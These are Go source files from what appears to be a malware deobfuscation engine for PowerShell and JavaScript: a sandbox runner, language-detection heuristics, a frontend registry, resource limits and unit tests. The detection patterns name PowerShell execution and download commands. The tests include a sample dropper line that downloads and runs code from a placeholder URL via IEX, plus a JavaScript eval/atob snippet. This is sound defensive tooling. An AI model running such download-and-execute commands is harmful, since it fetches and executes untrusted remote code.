	h.record(EventSleep, fmt.Sprintf("%.1fs", seconds))
}

// Options configures a sandbox run.
type Options struct {
	// MaxSteps bounds interpretation work. Zero means 3e6.
	MaxSteps int
	// MaxAllocBytes bounds interpreter memory. Zero means the
	// interpreter default (64 MiB).
	MaxAllocBytes int64
}

// Result is the outcome of sandboxing one script.
type Result struct {
	Behavior Behavior
	Console  string
	// Err records an interpretation failure (scripts may still have
	// produced behaviour before failing, as in a real sandbox).
	Err error
}

// Run executes a script and records its behaviour, with no deadline.
func Run(src string, opts Options) *Result {
	return RunContext(context.Background(), src, opts)
}

// RunContext executes a script under ctx: the interpreter honors the
// context's deadline and cancelation on its step-counter hot path, so a
// hostile script cannot hold the sandbox past the deadline. Behaviour
// recorded before the cutoff is still reported, with Err set to the
// taxonomy error.
func RunContext(ctx context.Context, src string, opts Options) *Result {
	if opts.MaxSteps == 0 {
		opts.MaxSteps = 3_000_000
	}
	host := &recordingHost{}
	in := psinterp.New(psinterp.Options{
		MaxSteps:      opts.MaxSteps,
		Host:          host,
		Ctx:           ctx,
		MaxAllocBytes: opts.MaxAllocBytes,
	})
	_, err := in.EvalSnippet(src)
	return &Result{Behavior: host.events, Console: host.console.String(), Err: err}
}
