package frontend

import (
	"regexp"
	"strings"
)

// detectWindow bounds how much of the script detection inspects; the
// discriminating signals of both languages appear early, and hostile
// megabyte inputs should not pay a full scan before admission.
const detectWindow = 64 << 10

// Signal patterns. Detection is a cheap vote, not a parser: each
// regexp is anchored on word boundaries so substrings inside string
// literals rarely dominate, and the caller treats the result as a
// default the user can always override with an explicit lang.
var (
	jsShebang = regexp.MustCompile(`^#!.*\b(node|deno|bun|qjs)\b`)
	psShebang = regexp.MustCompile(`^#!.*\b(pwsh|powershell)\b`)

	psSignals = []*regexp.Regexp{
		regexp.MustCompile(`(?i)\bparam\s*\(`),
		regexp.MustCompile(`\$[A-Za-z_{][A-Za-z0-9_]*`), // $-sigil variables
		regexp.MustCompile("`[a-zA-Z]"),                 // backtick ticking
		regexp.MustCompile(`(?i)\b(Write-Host|Invoke-Expression|iex|New-Object|Get-ChildItem|Start-Process|Invoke-WebRequest)\b`),
		regexp.MustCompile(`(?i)-(join|split|replace|bxor|enc|encodedcommand|nop)\b`),
		regexp.MustCompile(`(?i)\[(char|int|string|byte|convert|text\.encoding)\]`),
	}
	jsSignals = []*regexp.Regexp{
		regexp.MustCompile(`\bfunction\s*\(`),
		regexp.MustCompile(`=>`),
		regexp.MustCompile(`\b(var|let|const)\s+[A-Za-z_$][A-Za-z0-9_$]*\s*=`),
		regexp.MustCompile(`\bString\.fromCharCode\b`),
		regexp.MustCompile(`\b(document|window|console|eval|unescape|atob)\s*[.(]`),
		regexp.MustCompile(`\.(join|split|charCodeAt|charAt)\s*\(`),
	}
)

// Detect guesses the language of src with cheap lexical heuristics and
// returns the canonical frontend name. It never fails: with no
// discriminating signal it returns "powershell", the platform's
// historical default, so every pre-multi-language caller keeps its
// behavior.
func Detect(src string) string {
	if len(src) > detectWindow {
		src = src[:detectWindow]
	}
	head := strings.TrimLeft(src, " \t\r\n\uFEFF")
	if jsShebang.MatchString(head) {
		return "javascript"
	}
	if psShebang.MatchString(head) {
		return "powershell"
	}
	ps, js := 0, 0
	for _, re := range psSignals {
		if re.MatchString(src) {
			ps++
		}
	}
	for _, re := range jsSignals {
		if re.MatchString(src) {
			js++
		}
	}
	if js > ps {
		return "javascript"
	}
	return "powershell"
}

// DetectFrontend resolves Detect's guess through the registry.
func DetectFrontend(src string) (Frontend, error) {
	return Get(Detect(src))
}
