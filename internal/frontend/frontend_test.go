package frontend

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/invoke-deobfuscation/invokedeob/internal/limits"
	"github.com/invoke-deobfuscation/invokedeob/internal/pipeline"
)

// stubFrontend is a minimal Frontend for registry and hook tests.
type stubFrontend struct {
	Base
	name string
}

func (f stubFrontend) Name() string                     { return f.name }
func (f stubFrontend) Tokenize(src string) (any, error) { return []string{src}, nil }
func (f stubFrontend) Parse(src string) (any, error) {
	if strings.Contains(src, "INVALID") {
		return nil, fmt.Errorf("stub: bad syntax")
	}
	return &src, nil
}
func (f stubFrontend) LayerPasses(r *Run) []pipeline.Pass { return nil }

// hookedFrontend additionally implements both capability hooks.
type hookedFrontend struct {
	stubFrontend
	valid       bool
	recoverable bool
}

func (f hookedFrontend) Valid(src string) bool       { return f.valid }
func (f hookedFrontend) HasRecoverable(ast any) bool { return f.recoverable }
func (f hookedFrontend) Capabilities() Capabilities {
	// Deliberately the opposite of the hook's answer, to prove the hook
	// wins over the static capability bit.
	return Capabilities{RecoverableNodes: !f.recoverable}
}

func TestRegisterAndGet(t *testing.T) {
	fe := stubFrontend{name: "stublang"}
	Register(fe)
	got, err := Get("stublang")
	if err != nil {
		t.Fatal(err)
	}
	if got.Name() != "stublang" {
		t.Errorf("Get returned %q", got.Name())
	}
	// Case-insensitive lookup.
	if _, err := Get("  StubLang "); err != nil {
		t.Errorf("case/space-normalized lookup failed: %v", err)
	}
	found := false
	for _, n := range Names() {
		if n == "stublang" {
			found = true
		}
	}
	if !found {
		t.Errorf("Names() = %v, missing stublang", Names())
	}
}

func TestDuplicateRegistrationPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("duplicate registration did not panic")
		}
	}()
	Register(stubFrontend{name: "duplang"})
	Register(stubFrontend{name: "duplang"})
}

func TestGetUnknownWrapsErrBadLang(t *testing.T) {
	_, err := Get("cobol")
	if err == nil {
		t.Fatal("unknown language resolved")
	}
	if !errors.Is(err, limits.ErrBadLang) {
		t.Errorf("err = %v, want ErrBadLang in chain", err)
	}
	if !strings.Contains(err.Error(), "cobol") {
		t.Errorf("error does not name the offending language: %v", err)
	}
}

func TestNormalizeAliases(t *testing.T) {
	tests := map[string]string{
		"ps":           "powershell",
		"PS1":          "powershell",
		"pwsh":         "powershell",
		" PowerShell ": "powershell",
		"js":           "javascript",
		"ECMAScript":   "javascript",
		"javascript":   "javascript",
		"unknown":      "unknown",
	}
	for in, want := range tests {
		if got := Normalize(in); got != want {
			t.Errorf("Normalize(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestBaseDefaults(t *testing.T) {
	fe := stubFrontend{name: "defaults"}
	if _, err := fe.Evaluate(context.Background(), "x", nil, EvalBudget{}); !errors.Is(err, ErrUnsupported) {
		t.Errorf("Base.Evaluate err = %v, want ErrUnsupported", err)
	}
	if _, ok := fe.Render("v"); ok {
		t.Error("Base.Render accepted a value")
	}
	// Scalars copy, reference types are refused.
	if cp, ok := fe.CopyValue("s"); !ok || cp != "s" {
		t.Errorf("Base.CopyValue scalar = %v/%t", cp, ok)
	}
	if _, ok := fe.CopyValue([]any{1}); ok {
		t.Error("Base.CopyValue accepted a slice")
	}
	if fe.ValueSize("abcd") != 4+16 {
		t.Errorf("Base.ValueSize = %d", fe.ValueSize("abcd"))
	}
	if fe.DefaultBlocklist() != nil {
		t.Error("Base.DefaultBlocklist not nil")
	}
	if fe.Capabilities() != (Capabilities{}) {
		t.Error("Base.Capabilities not zero")
	}
	if fe.FinalPasses(nil) != nil {
		t.Error("Base.FinalPasses not nil")
	}
}

func TestValidHookFallback(t *testing.T) {
	plain := stubFrontend{name: "plain"}
	// Without the hook, Valid falls back to Parse.
	if !Valid(plain, "fine") {
		t.Error("parse-based Valid rejected good input")
	}
	if Valid(plain, "INVALID") {
		t.Error("parse-based Valid accepted bad input")
	}
	// With the hook, the hook's answer wins even when Parse disagrees.
	hooked := hookedFrontend{stubFrontend: stubFrontend{name: "hooked"}, valid: false}
	if Valid(hooked, "fine") {
		t.Error("ValidityChecker hook was bypassed")
	}
}

func TestHasRecoverableHookFallback(t *testing.T) {
	// Without the hook: the static capability bit.
	plain := stubFrontend{name: "plain"}
	if HasRecoverable(plain, nil) {
		t.Error("zero-capability frontend reported recoverable nodes")
	}
	// With the hook: the hook's per-AST answer wins over the bit.
	hooked := hookedFrontend{stubFrontend: stubFrontend{name: "hooked"}, recoverable: true}
	if !HasRecoverable(hooked, nil) {
		t.Error("RecoverableDetector hook was bypassed")
	}
}

func TestDetect(t *testing.T) {
	tests := []struct {
		name, src, want string
	}{
		{"empty defaults to powershell", "", "powershell"},
		{"node shebang", "#!/usr/bin/env node\n1+1", "javascript"},
		{"pwsh shebang", "#!/usr/bin/env pwsh\nWrite-Host hi", "powershell"},
		{"bom then shebang", "\uFEFF#!/usr/bin/env node\nx", "javascript"},
		{"powershell idioms", "$a = 'x'; Write-Host $a -join ','", "powershell"},
		{"javascript idioms", "var x = String.fromCharCode(104); console.log(x.split(''))", "javascript"},
		{"js dropper", "eval(unescape('%68%69')); document.write(atob('aGk='))", "javascript"},
		{"ps dropper", "IEX (New-Object Net.WebClient).DownloadString('http://x')", "powershell"},
		{"ambiguous defaults to powershell", "hello world", "powershell"},
		// Mixed signals: PowerShell variables plus one JS-ish token still
		// lean PowerShell (js must win strictly).
		{"mixed leans powershell", "$v = 'function(' + $x -join ''", "powershell"},
	}
	for _, tt := range tests {
		if got := Detect(tt.src); got != tt.want {
			t.Errorf("%s: Detect = %q, want %q", tt.name, got, tt.want)
		}
	}
	// Oversize input: only the window is scanned (no crash, a result).
	big := strings.Repeat(" ", detectWindow) + "var x = String.fromCharCode(1)"
	if got := Detect(big); got != "powershell" {
		t.Errorf("signals beyond the window changed the vote: %q", got)
	}
}
