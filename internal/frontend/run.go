package frontend

import (
	"time"
)

// Options configures a deobfuscation run. The zero value enables every
// phase with the paper's defaults and auto-detects the language.
// The engine driver (internal/core) aliases this type so embedders see
// one option surface.
type Options struct {
	// Lang names the language frontend ("powershell", "javascript",
	// or any registered alias). Empty means auto-detect per script.
	Lang string
	// MaxIterations bounds the multi-layer fixpoint loop. Zero means 10.
	MaxIterations int
	// StepBudget bounds interpreter work per recoverable piece. Zero
	// means 500k steps.
	StepBudget int
	// MaxPieceLen skips recoverable pieces larger than this many bytes.
	// Zero means 1 MiB.
	MaxPieceLen int
	// Blocklist overrides the frontend's default irrelevant-command
	// blocklist.
	Blocklist map[string]bool
	// DisableTokenPhase turns off phase 1 (ablation).
	DisableTokenPhase bool
	// DisableASTPhase turns off phase 2 (ablation).
	DisableASTPhase bool
	// DisableVariableTracing turns off the symbol table, reducing the
	// engine to context-free direct execution (ablation; emulates the
	// weakness the paper identifies in prior work).
	DisableVariableTracing bool
	// DisableRename turns off phase 3 renaming.
	DisableRename bool
	// DisableReformat turns off phase 3 reformatting.
	DisableReformat bool
	// FunctionTracing enables the extension the paper leaves as future
	// work (§V-C "Complex Obfuscation"): recovery through user-defined
	// decoder functions. A function qualifies when its body is pure —
	// only safe commands and no free variables beyond its parameters —
	// in which case calls to it become recoverable pieces with the
	// definition in scope. Off by default to match the paper's tool.
	FunctionTracing bool
	// MaxAllocBytes bounds the memory a single recoverable piece may
	// allocate in the embedded interpreter. Zero means the interpreter
	// default (64 MiB).
	MaxAllocBytes int64
	// MaxOutputBytes bounds the total bytes produced across all
	// unwrapped layers in one run (zip-bomb guard). Zero means 64 MiB.
	MaxOutputBytes int
	// DisableEvalCache turns off evaluation memoization: every
	// recoverable piece is interpreted from scratch even when an
	// identical (text, visible-bindings) pair was already evaluated in a
	// previous fixpoint iteration, a nested layer, or another script of
	// a batch. The cache is semantically gated (only pure, deterministic
	// runs are memoized), so disabling it changes performance only;
	// outputs are byte-identical either way.
	DisableEvalCache bool
	// Jobs bounds DeobfuscateBatch worker-pool concurrency. Zero means
	// GOMAXPROCS.
	Jobs int
	// PieceWorkers bounds the per-run worker pool that evaluates
	// independent recoverable pieces concurrently inside one ast-phase
	// walk. Zero means GOMAXPROCS; 1 forces the sequential order. Batch
	// runs clamp jobs × piece-workers to GOMAXPROCS so a batch does not
	// oversubscribe the machine. Outputs are byte-identical at any
	// setting: pieces are partitioned into independence groups first and
	// results are applied in capture order.
	PieceWorkers int
	// DisableSplice turns off batched subtree splicing with incremental
	// reparse (ablation): every ast-phase replacement round re-renders
	// the whole script and re-validates it with a full parse, the
	// pre-splice behavior. Outputs are byte-identical either way.
	DisableSplice bool
	// ScriptTimeout, when positive, gives each script in a
	// DeobfuscateBatch run its own wall-clock deadline (derived from the
	// batch context), so one pathological script cannot starve its
	// siblings. Zero means only the batch context's deadline applies.
	ScriptTimeout time.Duration
}

// Stats counts the work performed during one deobfuscation.
type Stats struct {
	// TokensNormalized is the number of tokens rewritten by phase 1.
	TokensNormalized int
	// PiecesAttempted is the number of recoverable pieces evaluated.
	PiecesAttempted int
	// PiecesRecovered is the number of pieces replaced with literals.
	PiecesRecovered int
	// VariablesTraced is the number of variable values recorded.
	VariablesTraced int
	// VariablesInlined is the number of variable reads replaced.
	VariablesInlined int
	// LayersUnwrapped counts Invoke-Expression / -EncodedCommand layers
	// removed.
	LayersUnwrapped int
	// IdentifiersRenamed counts renamed variables and functions.
	IdentifiersRenamed int
	// Iterations is the number of fixpoint rounds executed.
	Iterations int
	// Duration is wall-clock deobfuscation time.
	Duration time.Duration
	// PiecesTimedOut counts pieces whose evaluation was cut off by the
	// context deadline or cancelation.
	PiecesTimedOut int
	// PiecesPanicked counts pieces whose evaluation hit an internal
	// panic that was converted to an error at an isolation barrier.
	PiecesPanicked int
	// PiecesOverBudget counts pieces whose evaluation exhausted the
	// interpreter memory budget.
	PiecesOverBudget int
	// TimedOut reports that the run as a whole was interrupted by the
	// envelope (deadline, cancelation or output budget) and the result
	// holds partial progress.
	TimedOut bool
	// EvalCacheHits counts piece evaluations answered from the
	// evaluation cache (interpreter runs skipped entirely).
	EvalCacheHits int64
	// EvalCacheMisses counts piece evaluations that ran the interpreter
	// and whose pure result was inserted into the cache.
	EvalCacheMisses int64
	// EvalCacheSkips counts piece evaluations that ran but were not
	// cacheable (impure, failed, or holding uncopyable values).
	EvalCacheSkips int64
	// PiecesParallel counts recoverable pieces evaluated off the walk
	// goroutine by the piece worker pool (0 when PieceWorkers is 1).
	PiecesParallel int
	// SplicesApplied counts ast-phase replacement batches applied as an
	// incremental Document splice (statement-extent reparse only).
	SplicesApplied int
	// SpliceFallbacks counts replacement batches where the splice was
	// attempted but failed validation and the engine fell back to a full
	// re-render + reparse.
	SpliceFallbacks int
}

// Run carries the per-run state every pass shares: the run's options,
// the resolved blocklist, the stats being accumulated, and the
// execution envelope. Documents and the parse cache travel separately
// (on the pipeline.PassContext) so nested payload layers can fork
// Documents while drawing from the same cache.
type Run struct {
	// Opts is the run's option set (already defaulted by the driver).
	Opts *Options
	// Blocklist is the resolved irrelevant-command blocklist
	// (Opts.Blocklist or the frontend default).
	Blocklist map[string]bool
	// Stats accumulates the run's counters.
	Stats *Stats
	// Env is the run's execution envelope.
	Env *Envelope
}
