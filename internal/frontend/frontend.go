// Package frontend defines the language-frontend interface the
// deobfuscation engine is built around, plus the registry that maps
// language names to registered implementations.
//
// The paper's pipeline — tokenize, recover recoverable AST nodes by
// safe evaluation, rename, reformat — is not PowerShell-specific. A
// Frontend packages everything the language-neutral driver
// (internal/core) needs: artifact producers (Tokenize/Parse), a safe
// evaluator, a literal renderer, value copy/size operations for the
// shared evaluation cache, and the pass lists that make up the
// fixpoint loop and the finishing phases. The engine never imports a
// concrete language package; it resolves one through the registry by
// name (or auto-detection) and drives it through this interface.
//
// Frontends register themselves from an init function; importing
// internal/frontends (plural) links in every built-in language.
package frontend

import (
	"context"
	"errors"

	"github.com/invoke-deobfuscation/invokedeob/internal/pipeline"
)

// ErrUnsupported reports that a frontend does not implement an
// optional capability (e.g. safe evaluation on a static-only
// frontend).
var ErrUnsupported = errors.New("frontend: operation not supported")

// Capabilities describes the optional abilities of a frontend, so the
// driver and callers can branch without type assertions.
type Capabilities struct {
	// Evaluate reports that the frontend can safely evaluate snippets
	// in an embedded interpreter (the paper's recovery phase).
	Evaluate bool
	// RecoverableNodes reports that the frontend detects recoverable
	// AST nodes and folds them during its layer passes.
	RecoverableNodes bool
}

// EvalBudget bounds one snippet evaluation.
type EvalBudget struct {
	// MaxSteps bounds interpreter steps (0 = frontend default).
	MaxSteps int
	// MaxAllocBytes bounds interpreter allocations (0 = frontend
	// default).
	MaxAllocBytes int64
}

// EvalResult is the outcome of one snippet evaluation.
type EvalResult struct {
	// Values is the pipeline output of the snippet.
	Values []any
	// Console is any host/console output the snippet produced.
	Console string
	// Pure reports that the evaluation was deterministic and free of
	// observable side effects (safe to memoize).
	Pure bool
	// ReadVars lists the preloaded variables the evaluation read,
	// sorted; with Pure it forms the memoization key.
	ReadVars []string
}

// Frontend is one language implementation. Its method set includes
// pipeline.Lang (Name/Tokenize/Parse) and pipeline.EvalOps
// (Name/CopyValue/ValueSize), so a Frontend plugs directly into the
// parse cache and the evaluation cache.
type Frontend interface {
	// Name is the canonical language name ("powershell", "javascript").
	// It namespaces every cache key.
	Name() string
	// Tokenize produces the language's token-stream artifact.
	Tokenize(src string) (any, error)
	// Parse produces the language's AST artifact; a nil error means
	// src is syntactically valid.
	Parse(src string) (any, error)
	// Evaluate runs a snippet in the frontend's bounded evaluator with
	// the given variable preloads. Frontends without an evaluator
	// return ErrUnsupported (Base's default).
	Evaluate(ctx context.Context, snippet string, vars map[string]any, budget EvalBudget) (EvalResult, error)
	// Render renders a recovered value as a source literal of the
	// language, or false when the value has no literal form.
	Render(v any) (string, bool)
	// CopyValue returns a deep, unaliased copy of an evaluator value
	// (or false to refuse reference types), for the shared eval cache.
	CopyValue(v any) (any, bool)
	// ValueSize estimates an evaluator value's retained bytes.
	ValueSize(v any) int
	// DefaultBlocklist is the language's default irrelevant-command
	// blocklist (nil when the language has none).
	DefaultBlocklist() map[string]bool
	// Capabilities reports the frontend's optional abilities.
	Capabilities() Capabilities
	// LayerPasses returns the passes of the per-layer fixpoint loop in
	// order, honoring the run's ablation options.
	LayerPasses(r *Run) []pipeline.Pass
	// FinalPasses returns the once-only finishing passes.
	FinalPasses(r *Run) []pipeline.Pass
}

// ValidityChecker is the optional capability hook for syntax
// validation. Frontends with a cheaper-than-parse validity check
// implement it; everyone else gets the Valid helper's parse-based
// default.
type ValidityChecker interface {
	Valid(src string) bool
}

// Valid reports whether src is syntactically valid under fe, through
// the ValidityChecker hook when implemented and a full Parse
// otherwise.
func Valid(fe Frontend, src string) bool {
	if v, ok := fe.(ValidityChecker); ok {
		return v.Valid(src)
	}
	_, err := fe.Parse(src)
	return err == nil
}

// RecoverableDetector is the optional capability hook for
// recoverable-node detection: given a parsed artifact, does the script
// contain nodes the frontend's recovery pass could fold? Frontends
// without the hook fall back to Capabilities().RecoverableNodes (the
// static answer).
type RecoverableDetector interface {
	HasRecoverable(ast any) bool
}

// HasRecoverable reports whether ast contains recoverable nodes,
// through the RecoverableDetector hook when implemented, with
// Capabilities().RecoverableNodes as the default.
func HasRecoverable(fe Frontend, ast any) bool {
	if d, ok := fe.(RecoverableDetector); ok {
		return d.HasRecoverable(ast)
	}
	return fe.Capabilities().RecoverableNodes
}

// Base provides conservative defaults for the optional parts of the
// Frontend interface, for embedding in frontends that do not support
// evaluation or custom value handling. The required methods (Name,
// Tokenize, Parse, LayerPasses, FinalPasses) have no sensible default
// and must be implemented by the embedding type.
type Base struct{}

// Evaluate reports that the frontend has no evaluator.
func (Base) Evaluate(ctx context.Context, snippet string, vars map[string]any, budget EvalBudget) (EvalResult, error) {
	return EvalResult{}, ErrUnsupported
}

// Render refuses every value.
func (Base) Render(v any) (string, bool) { return "", false }

// CopyValue copies the immutable scalar types and refuses everything
// else — safe for any language, at the cost of cacheability.
func (Base) CopyValue(v any) (any, bool) {
	switch v.(type) {
	case nil, bool, int, int64, float64, string:
		return v, true
	}
	return nil, false
}

// ValueSize gives a rough scalar size estimate.
func (Base) ValueSize(v any) int {
	if s, ok := v.(string); ok {
		return len(s) + 16
	}
	return 16
}

// DefaultBlocklist reports no blocklist.
func (Base) DefaultBlocklist() map[string]bool { return nil }

// Capabilities reports no optional abilities.
func (Base) Capabilities() Capabilities { return Capabilities{} }

// FinalPasses reports no finishing passes.
func (Base) FinalPasses(r *Run) []pipeline.Pass { return nil }
