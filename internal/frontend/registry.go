package frontend

import (
	"fmt"
	"sort"
	"strings"
	"sync"

	"github.com/invoke-deobfuscation/invokedeob/internal/limits"
)

var (
	regMu    sync.RWMutex
	registry = make(map[string]Frontend)
)

// aliases maps the spellings callers use to canonical frontend names.
// Unknown names pass through Normalize unchanged so Get can report
// them precisely.
var aliases = map[string]string{
	"ps":         "powershell",
	"ps1":        "powershell",
	"pwsh":       "powershell",
	"js":         "javascript",
	"ecmascript": "javascript",
}

// Normalize lower-cases and de-aliases a language name ("PS1" →
// "powershell"). Unknown names are returned lower-cased, unresolved.
func Normalize(name string) string {
	n := strings.ToLower(strings.TrimSpace(name))
	if canonical, ok := aliases[n]; ok {
		return canonical
	}
	return n
}

// Register adds a frontend to the registry under its canonical name.
// It is meant to be called from the frontend package's init function;
// registering two frontends under one name is a programming error and
// panics.
func Register(fe Frontend) {
	name := fe.Name()
	regMu.Lock()
	defer regMu.Unlock()
	if _, dup := registry[name]; dup {
		panic(fmt.Sprintf("frontend: duplicate registration for %q", name))
	}
	registry[name] = fe
}

// Get resolves a language name (any alias spelling) to its registered
// frontend. Unknown names return an error wrapping limits.ErrBadLang,
// which serving frontends map to 422.
func Get(name string) (Frontend, error) {
	canonical := Normalize(name)
	regMu.RLock()
	fe, ok := registry[canonical]
	regMu.RUnlock()
	if !ok {
		return nil, fmt.Errorf("%w: %q (registered: %s)",
			limits.ErrBadLang, name, strings.Join(Names(), ", "))
	}
	return fe, nil
}

// Names lists the registered canonical language names, sorted.
func Names() []string {
	regMu.RLock()
	out := make([]string, 0, len(registry))
	for name := range registry {
		out = append(out, name)
	}
	regMu.RUnlock()
	sort.Strings(out)
	return out
}
