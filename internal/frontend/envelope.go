package frontend

import (
	"context"
	"errors"
	"sync"
	"time"

	"github.com/invoke-deobfuscation/invokedeob/internal/limits"
)

// defaultMaxOutputBytes bounds the total output across unwrapped layers
// when Options.MaxOutputBytes is zero.
const defaultMaxOutputBytes = 64 << 20 // 64 MiB

// Envelope carries the per-run execution limits through the pipeline:
// the caller's context (deadline / cancelation) and the remaining
// output byte budget shared by all unwrapped layers. An engine is
// reusable across runs, so this state lives on the run, not on the
// engine. The envelope is safe for concurrent use: piece workers
// evaluating independent pieces in parallel share one budget.
type Envelope struct {
	ctx context.Context

	mu              sync.Mutex
	outputRemaining int
	// err latches the first envelope violation so later checks fail
	// fast without re-deriving it.
	err error
}

// NewEnvelope returns an envelope over ctx with maxOutput bytes of
// layer-output budget (<=0 means the 64 MiB default).
func NewEnvelope(ctx context.Context, maxOutput int) *Envelope {
	if ctx == nil {
		ctx = context.Background()
	}
	if maxOutput <= 0 {
		maxOutput = defaultMaxOutputBytes
	}
	return &Envelope{ctx: ctx, outputRemaining: maxOutput}
}

// Context returns the run's context, for wiring into interpreters.
func (e *Envelope) Context() context.Context {
	if e == nil || e.ctx == nil {
		return context.Background()
	}
	return e.ctx
}

// Check returns the latched violation or a fresh context error, nil
// while the envelope is intact.
func (e *Envelope) Check() error {
	if e == nil {
		return nil
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.err != nil {
		return e.err
	}
	if cerr := e.ctx.Err(); cerr != nil {
		e.err = limits.FromContext(cerr)
		return e.err
	}
	// ctx.Err() turns non-nil only once the context's timer goroutine
	// has fired; right at the deadline instant it can lag the wall
	// clock by a scheduling quantum. The interpreter checks
	// time.Now() against the deadline directly, so mirror that here —
	// otherwise a piece can fail with ErrDeadline while the run-level
	// check still reads the envelope as intact.
	if dl, ok := e.ctx.Deadline(); ok && !time.Now().Before(dl) {
		e.err = limits.ErrDeadline
		return e.err
	}
	return nil
}

// Violated reports whether the envelope has already been broken.
func (e *Envelope) Violated() bool { return e.Check() != nil }

// ChargeOutput debits n bytes of layer output from the shared budget.
// Non-positive charges (a layer that shrank) are free — the budget is
// never refunded, so oscillating layers cannot mint headroom.
func (e *Envelope) ChargeOutput(n int) error {
	if e == nil || n <= 0 {
		return nil
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	if n > e.outputRemaining {
		e.outputRemaining = 0
		if e.err == nil {
			e.err = limits.ErrOutputBudget
		}
		return limits.ErrOutputBudget
	}
	e.outputRemaining -= n
	return nil
}

// ClassifyEvalFailure buckets a per-piece evaluation failure into the
// Stats counters. Failures outside the taxonomy (unsupported feature,
// runtime error in the piece) are the normal give-up path and are not
// counted here.
func ClassifyEvalFailure(stats *Stats, err error) {
	switch {
	case errors.Is(err, limits.ErrDeadline) || errors.Is(err, limits.ErrCanceled):
		stats.PiecesTimedOut++
	case errors.Is(err, limits.ErrMemBudget):
		stats.PiecesOverBudget++
	case errors.Is(err, limits.ErrPanic):
		stats.PiecesPanicked++
	}
}
