// Package limits defines the hardened execution envelope shared by
// every substrate of the deobfuscation pipeline: a structured error
// taxonomy for resource-limit violations, and panic-isolation helpers
// that downgrade latent bugs in the tokenizer, parser or interpreter to
// structured errors instead of process crashes.
//
// The engine's job is to execute fragments of untrusted malware, so a
// pathological input must never be able to hang, exhaust memory, or
// crash the embedding process. Each substrate enforces its own limit
// (wall-clock deadline, step budget, allocation budget, recursion
// depth, output size) and reports the violation with one of the
// sentinels below; callers use errors.Is to classify failures and
// account for them without aborting the whole batch.
//
// This package is a leaf: it must not import any other internal
// package, so that pstoken, psparser, psinterp, sandbox and core can
// all share the same taxonomy without cycles.
package limits

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"runtime"
)

// Sentinel errors of the resource-limit taxonomy. All envelope
// violations wrap (or are) exactly one of these, so errors.Is
// classification is stable across layers.
var (
	// ErrDeadline signals the wall-clock deadline expired.
	ErrDeadline = errors.New("limits: deadline exceeded")
	// ErrCanceled signals the caller canceled the operation.
	ErrCanceled = errors.New("limits: operation canceled")
	// ErrMemBudget signals the cumulative allocation budget was
	// exhausted (string/array materialization, decoded payloads).
	ErrMemBudget = errors.New("limits: memory budget exhausted")
	// ErrParseDepth signals the tokenizer/parser recursion or nesting
	// depth limit was hit.
	ErrParseDepth = errors.New("limits: parse depth limit exceeded")
	// ErrOutputBudget signals the total unwrapped-output cap was hit.
	ErrOutputBudget = errors.New("limits: output budget exceeded")
	// ErrPanic signals a recovered internal panic; the concrete error is
	// a *PanicError carrying the panic value and stack.
	ErrPanic = errors.New("limits: internal panic")
	// ErrInputBudget signals that an input was rejected before any
	// processing began because it exceeded a size limit (request body,
	// script length, batch width). It is the admission-side sibling of
	// ErrOutputBudget: the former rejects oversized inputs up front, the
	// latter stops runs whose unwrapped layers grow past the cap.
	ErrInputBudget = errors.New("limits: input size limit exceeded")
	// ErrQuota signals that a per-tenant rate quota rejected the request
	// before any processing began. Unlike ErrInputBudget (this request
	// is too big) it blames the request's arrival rate: the same request
	// would be accepted once the tenant's token bucket refills, so the
	// serving frontend pairs it with a Retry-After computed from the
	// bucket's actual refill time.
	ErrQuota = errors.New("limits: per-tenant quota exceeded")
	// ErrShed signals that the server refused a request predicted to be
	// expensive while operating above its overload high-water mark.
	// Nothing is wrong with the request itself: it is cost-aware load
	// shedding, sacrificing heavy work first so cheap traffic keeps
	// flowing. Retrying after the pressure subsides should succeed.
	ErrShed = errors.New("limits: heavy request shed under overload")
	// ErrBadLang signals that the caller named a language no registered
	// frontend implements. It blames the request (an explicit `lang`
	// value the deployment does not support), so it maps to 422: the
	// request was well-formed but unprocessable as specified.
	ErrBadLang = errors.New("limits: unknown language")
)

// PanicError is the structured error produced when a panic is caught at
// an isolation barrier. It unwraps to ErrPanic so errors.Is works, and
// retains the panic value plus a truncated stack for diagnostics.
type PanicError struct {
	// Op names the operation that panicked ("tokenize", "parse",
	// "eval", ...).
	Op string
	// Value is the recovered panic value.
	Value any
	// Stack is the goroutine stack at recovery time (truncated).
	Stack []byte
}

func (e *PanicError) Error() string {
	return fmt.Sprintf("limits: panic in %s: %v", e.Op, e.Value)
}

// Unwrap makes errors.Is(err, ErrPanic) true for every PanicError.
func (e *PanicError) Unwrap() error { return ErrPanic }

// maxStack bounds the stack snapshot retained per recovered panic.
const maxStack = 16 << 10

// Recover converts an in-flight panic into a *PanicError stored in
// *errp. Use as a deferred call at every isolation barrier:
//
//	func Parse(src string) (sb *ScriptBlock, err error) {
//		defer limits.Recover("parse", &err)
//		...
//	}
//
// A nil panic value (normal return) leaves *errp untouched.
func Recover(op string, errp *error) {
	v := recover()
	if v == nil {
		return
	}
	buf := make([]byte, maxStack)
	buf = buf[:runtime.Stack(buf, false)]
	*errp = &PanicError{Op: op, Value: v, Stack: buf}
}

// FromContext maps a context error onto the taxonomy: DeadlineExceeded
// becomes ErrDeadline and Canceled becomes ErrCanceled. Other errors
// (including nil) pass through unchanged.
func FromContext(err error) error {
	switch {
	case errors.Is(err, context.DeadlineExceeded):
		return ErrDeadline
	case errors.Is(err, context.Canceled):
		return ErrCanceled
	}
	return err
}

// Name returns the taxonomy name for an envelope error ("ErrDeadline",
// "ErrPanic", ...) or "" when err is not an envelope violation. Command
// line tools print this on stderr so operators can dispatch on it.
func Name(err error) string {
	switch {
	case err == nil:
		return ""
	case errors.Is(err, ErrDeadline):
		return "ErrDeadline"
	case errors.Is(err, ErrCanceled):
		return "ErrCanceled"
	case errors.Is(err, ErrMemBudget):
		return "ErrMemBudget"
	case errors.Is(err, ErrParseDepth):
		return "ErrParseDepth"
	case errors.Is(err, ErrOutputBudget):
		return "ErrOutputBudget"
	case errors.Is(err, ErrPanic):
		return "ErrPanic"
	case errors.Is(err, ErrInputBudget):
		return "ErrInputBudget"
	case errors.Is(err, ErrQuota):
		return "ErrQuota"
	case errors.Is(err, ErrShed):
		return "ErrShed"
	case errors.Is(err, ErrBadLang):
		return "ErrBadLang"
	}
	return ""
}

